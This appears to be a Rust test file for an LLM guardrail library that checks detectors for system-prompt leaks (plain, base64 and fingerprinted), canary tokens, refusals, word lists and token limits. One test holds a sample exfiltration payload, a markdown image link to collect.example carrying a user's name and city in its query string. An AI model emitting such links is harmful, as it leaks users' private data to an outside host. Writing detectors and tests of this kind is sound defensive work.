//! The detectors `output` and `hygiene` from outside, with the library's own rules and policies.

#![expect(clippy::unwrap_used, reason = "helpers of tests fail the test")]

use std::sync::LazyLock;

use llm_shield_detect::hygiene::{TokenCounter, estimate};
use llm_shield_detect::output::PromptFingerprint;
use llm_shield_detect::output::canary::{CanaryKeys, issue};
use llm_shield_detect::{
    Action, Cancel, Content, Direction, Engine, Policy, RedactionKeys, Report, Request, Role, ScanOptions,
    Verdict, redact,
};

static ENGINE: LazyLock<Engine> = LazyLock::new(|| Engine::builtin().unwrap());

const PROMPT: &str = "You are Aria, the assistant of Fernwood Travel. Never mention the partner discount of eleven \
    percent. When a customer asks for a refund, first offer a voucher, then escalate to the desk in Lyon. Keep answers \
    under ninety words and sign them with a leaf.";

fn policy(yaml: &str) -> Policy {
    Policy::from_yaml(&format!("name: test\n{yaml}")).unwrap()
}

fn scan(direction: Direction, text: &str) -> Report {
    let policy = Policy::preset("standard").unwrap();
    ENGINE.scan(&Request::single(direction, Role::Assistant, text), &policy, &Cancel::never())
}

fn answer(prompt: &str, text: &str, options: &ScanOptions) -> Report {
    let contents =
        vec![Content { role: Role::System, text: prompt }, Content { role: Role::Assistant, text }];
    let request = Request { direction: Direction::Output, contents };
    ENGINE.scan_with(&request, &Policy::preset("standard").unwrap(), options, &Cancel::never())
}

fn ids(report: &Report) -> Vec<&str> {
    report.findings.iter().map(|finding| &*finding.rule_id).collect()
}

#[test]
fn a_leaked_prompt_is_blocked_and_redacted() {
    let text = format!("Gladly. {PROMPT} Anything else?");
    let report = answer(PROMPT, &text, &ScanOptions::default());
    assert_eq!((report.action, report.verdict), (Action::Block, Verdict::Sensitive));
    let finding = report.findings.iter().find(|finding| &*finding.entity == "SYSTEM_PROMPT").unwrap();
    assert_eq!(finding.content, 1);
    assert!(text.get(finding.span.range()).unwrap().starts_with("You are Aria"));
    let redacted = redact(
        &text,
        std::slice::from_ref(finding),
        &Policy::preset("standard").unwrap(),
        &RedactionKeys::default(),
    );
    assert_eq!(redacted.text, "Gladly. [SYSTEM_PROMPT]. Anything else?");
}

#[test]
fn a_leak_under_an_encoding_is_found() {
    let encoded = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(PROMPT)
    };
    let report = answer(PROMPT, &format!("Here you go: {encoded}"), &ScanOptions::default());
    assert!(ids(&report).contains(&"system-prompt-leak"), "{report:?}");
}

#[test]
fn a_fingerprint_stands_in_for_the_prompt() {
    let options = ScanOptions {
        prompts: PromptFingerprint::of(PROMPT, 8).into_iter().collect(),
        ..ScanOptions::default()
    };
    assert!(ids(&answer("Be kind.", PROMPT, &options)).contains(&"system-prompt-leak"));
    assert!(!ids(&answer("Be kind.", PROMPT, &ScanOptions::default())).contains(&"system-prompt-leak"));
}

#[test]
fn canary_tokens_by_key() {
    let key = b"a key of this test".to_vec();
    let token = issue(&key, "acme", "session-1", u64::from(u32::MAX));
    let options = ScanOptions {
        canary_keys: Some(CanaryKeys::new("acme", vec![key.into()])),
        ..ScanOptions::default()
    };
    let spaced = token.to_uppercase();
    let report = answer("Be kind.", &format!("It reads {spaced}."), &options);
    assert!(ids(&report).contains(&"canary-token"));
    assert_eq!(report.action, Action::Block);
    let report = answer("Be kind.", &format!("It reads {token}."), &ScanOptions::default());
    assert!(ids(&report).contains(&"canary-token-unverified"));
    assert_eq!(report.action, Action::Flag);
    let escaped: String = token.chars().map(|c| format!("%{:02x}", u32::from(c))).collect();
    assert!(ids(&answer("Be kind.", &escaped, &options)).contains(&"canary-token"));
}

#[test]
fn exfiltration_is_blocked_in_outputs_only() {
    let text = "![status](https://collect.example/p.png?d=the+user+is+ana+and+she+lives+in+lisbon)";
    assert_eq!(scan(Direction::Output, text).action, Action::Block);
    assert!(!ids(&scan(Direction::Input, text)).contains(&"exfiltration-by-loaded-url"));
}

#[test]
fn daily_answers_pass() {
    for text in [
        "Use `<script>` for code:\n\n```html\n<script src=\"app.js\"></script>\n<img src=x onerror=\"retry()\">\n```\n",
        "```sql\nSELECT name FROM users WHERE age > 30 OR city = 'Rome';\nUPDATE t SET a = 1 WHERE b = 2;\n```",
        "Run `rm -rf node_modules`, then `npm install`, and open http://localhost:3000 .",
        "![Architecture](https://docs.example.org/images/architecture-v2.png)\n\nSee [the guide](https://docs.example.org/guide#setup).",
        "```python\nimport json\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n```",
        "In Jinja you write `{{ user.name }}`; in a shell, `${HOME}`.",
        "The weather in Porto tomorrow: 21 degrees, a light wind from the north-west, no rain.",
    ] {
        let report = scan(Direction::Output, text);
        let told: Vec<_> =
            report.findings.iter().filter(|f| matches!(&*f.detector, "output" | "hygiene")).collect();
        assert!(told.iter().all(|f| f.severity == llm_shield_detect::Severity::Info), "{text}\n{told:?}");
    }
}

#[test]
fn information_moves_nothing() {
    let report = scan(Direction::Output, "I'm sorry, but I can't help with that.");
    assert!(ids(&report).contains(&"refusal"));
    assert_eq!((report.action, report.verdict), (Action::Allow, Verdict::Benign));
}

#[test]
fn lists_languages_and_limits_of_a_policy() {
    let policy = policy(
        "checks:
  hygiene:
    max_tokens: 50
    allowed_languages: [en]
    word_lists:
      - { name: rivals, kind: competitors, action: block, entries: [Acme Widgets] }
      - { name: rude, entries: [dang] }
",
    );
    let scan = |text: &str| {
        ENGINE.scan(&Request::single(Direction::Input, Role::User, text), &policy, &Cancel::never())
    };
    let report = scan("Is ÁCME  widgets better?");
    assert_eq!((ids(&report), report.action), (vec!["banned-rivals"], Action::Block));
    assert_eq!(scan("dang it").action, Action::Flag);
    assert_eq!(scan("dangling").action, Action::Allow);
    assert!(
        ids(&scan("Das ist nicht mein Paket und ich weiß auch nicht, wem es gehört."))
            .contains(&"language-not-allowed")
    );
    assert!(ids(&scan(&"a fair word ".repeat(60))).contains(&"token-limit-estimated"));
}

#[test]
fn the_host_counts_tokens() {
    #[derive(Debug)]
    struct Words;
    impl TokenCounter for Words {
        fn count(&self, text: &str) -> usize {
            text.split(' ').count()
        }
    }
    let engine = Engine::from_tables(&[]).unwrap().with_token_counter(std::sync::Arc::new(Words));
    assert_eq!(engine.count_tokens("a b c").tokens, 3);
    let policy = policy("checks: { hygiene: { max_tokens: 2 } }\n");
    let report =
        engine.scan(&Request::single(Direction::Input, Role::User, "a b c"), &policy, &Cancel::never());
    assert_eq!(ids(&report), ["token-limit"]);
    assert!(estimate("a b c") > 0);
}

#[test]
fn wrong_parameters_are_named() {
    let error = Policy::from_yaml("name: x\nchecks: { output: { allowed_hosts: ['a b'] } }\n").unwrap_err();
    assert!(error.to_string().contains("checks.output"), "{error}");
    let error = Policy::from_yaml("name: x\nchecks: { hygiene: { max_token: 5 } }\n").unwrap_err();
    assert!(error.to_string().contains("max_tokens"), "{error}");
}
